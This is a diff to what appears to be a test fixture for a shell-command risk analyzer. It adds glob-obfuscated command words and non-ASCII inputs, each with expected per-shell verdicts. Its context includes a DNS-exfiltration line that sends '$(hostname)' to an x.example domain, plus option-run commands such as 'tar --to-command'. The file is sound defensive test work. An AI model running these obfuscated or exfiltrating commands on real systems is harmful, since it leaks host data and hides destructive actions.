@@ -56,6 +56,13 @@ def more_shapes(size: int) -> dict[str, str]:
         "DNS lookups of substitutions": "".join(
             f'nslookup "$(hostname).{i}.x.example"\n' for i in range(n // 37)
         ),
+        # words.glob_candidates: a globbed command word is tried against every known name
+        # (in five folders when it has a `/`: 2 ms each before it was paid for)
+        "globbed command words per line": "".join(
+            f"/u?r/b?n/x{i}* -rf t\n" for i in range(n // 21)
+        ),
+        # bash.Positions: byte offsets to characters in a text that is not all ASCII
+        "non-ASCII words per line": "".join(f"echo é{i} ü ß → 中 # ö\n" for i in range(n // 24)),
         # option-run tables: programs whose option runs a command line
         "option-run commands per line": "".join(
             f"rsync -e 'ssh -p {i}' a b:/c; tar --to-command='cat {i}' -xf t.tar\n"
@@ -84,6 +91,11 @@ LEVELS = {
     # no longer swallows the next line (`_equals_parameters`), so every line's commands are
     # judged and the text is cut by the budget: critical (too complex) is the right verdict.
     "option-run commands per line": ("critical", "critical", "moderate"),
+    # sp13b: bash and cmd cut (each glob is paid for: about 2,500 steps), 1.1 s uncut
+    # (PowerShell reads `/u?r/…` as a path, not a command it looks up)
+    "globbed command words per line": ("critical", "safe", "critical"),
+    # sp13b: every line a distinct command: bash and PowerShell cut (as on main a8a63d8)
+    "non-ASCII words per line": ("critical", "critical", "safe"),
 }
 
 
